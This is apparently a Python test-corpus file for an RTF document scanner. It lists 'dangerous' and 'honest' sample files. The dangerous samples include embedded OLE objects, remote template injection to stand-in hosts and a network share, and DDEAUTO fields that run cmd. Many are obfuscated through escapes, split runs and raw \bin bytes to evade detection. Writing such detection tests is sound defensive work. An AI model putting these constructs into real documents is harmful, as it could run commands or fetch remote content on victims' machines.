"""Rich Text that is more than text and pictures, and honest ones."""

from typing import Final

from tests.corpus.files.case import FileCase


def _case(name: str, body: str, *reasons: str, begin: str = "{\\rtf1\\ansi ") -> FileCase:
    data = f"{begin}{body}\\par A text.}}".encode("latin-1")
    return FileCase(f"{name}.rtf", lambda: data, frozenset(f"rtf_{reason}" for reason in reasons))


_DANGEROUS: Final = (
    _case("package", "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}", "object"),
    _case("equation", "{\\object\\objocx{\\*\\objdata 01050000 02000000 0b000000 4571756174696f6e2e33}}", "object"),
    _case("updated", "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}}", "object"),
    _case("short-header", "{\\object{\\*\\objdata 01}}", "object", begin="{\\rt\\ansi "),
    _case("without-version-object", "{\\object{\\*\\objdata 01}}", "object", begin="{\\rtf\\ansi "),
    _case("hidden-in-groups", "{\\object{\\*\\objdata{\\*\\x}0{\\y1}1 05}}", "object"),
    _case("template", "{\\*\\template http://a.example/a.dotm}", "remote"),
    _case("template-in-escapes", "{\\*\\template \\'68\\u116?\\'74p://a.example/a}", "remote"),
    _case("template-on-a-share", "{\\*\\template \\\\\\\\10.0.0.1\\\\share\\\\a.dot}", "remote"),
    _case("dde", '{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt x}}', "dde"),
    _case("dde-in-runs", "{\\field{\\*\\fldinst {\\b D}{\\i DE}{AUTO}{ cmd}}{\\fldrslt x}}", "dde"),
    _case("taken-in", '{\\field{\\*\\fldinst INCLUDETEXT "http://a.example/a.doc"}{\\fldrslt x}}', "remote"),
    _case("object-behind-a-raw-byte",
          "{\\object\\bin1 \\\\objemb{\\*\\bin1 \\\\objclass Package}{\\*\\bin1 \\\\objdata 01}}", "object"),
    _case("object-behind-raw-bytes", "{\\object{\\*\\bin003{}\\\\objdata 0105000002000000}}", "object"),
    _case("template-behind-a-raw-byte", "{\\*\\bin1 \\\\template http://a.example/t.dotm}", "remote"),
    _case("dde-behind-a-raw-byte", "{\\field{\\*\\bin1 \\\\fldinst DDEAUTO cmd}{\\fldrslt x}}", "dde"),
    _case("dde-behind-a-raw-byte-within", "{\\field{\\*\\fldinst \\bin3 }x}DDEAUTO cmd}{\\fldrslt x}}", "dde"),
)  # fmt: skip
_HONEST: Final = (
    _case("text", "{\\fonttbl{\\f0 Arial;}}\\f0\\b Hello\\b0  w\\'f6rld"),
    _case("picture", "{\\pict\\pngblip\\picw9\\pich9 89504e470d0a1a0a" + "00" * 500 + "}"),
    _case("link", '{\\field{\\*\\fldinst HYPERLINK "https://example.com/"}{\\fldrslt here}}'),
    _case("page", "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}"),
    _case("own-template", "{\\*\\template C:\\\\Users\\\\A\\\\Normal.dotm}"),
    _case("talk", "The words \\\\objdata and \\\\template http://a.example, and DDEAUTO"),
    _case(
        "raw-picture",
        "{\\pict\\pngblip\\bin9 \\x{}\\\\\\y}C:\\\\bin\\\\template\\\\a, {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}",
    ),
    _case("talk-of-a-path", "/usr/bin9, C:\\\\bin and \\\\objdata"),
    _case("without-version", "Hello", begin="{\\rtf\\ansi\\deff0 "),
    _case("linked-picture", '{\\field{\\*\\fldinst INCLUDEPICTURE "https://example.com/a.png"}{\\fldrslt x}}'),
)
CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
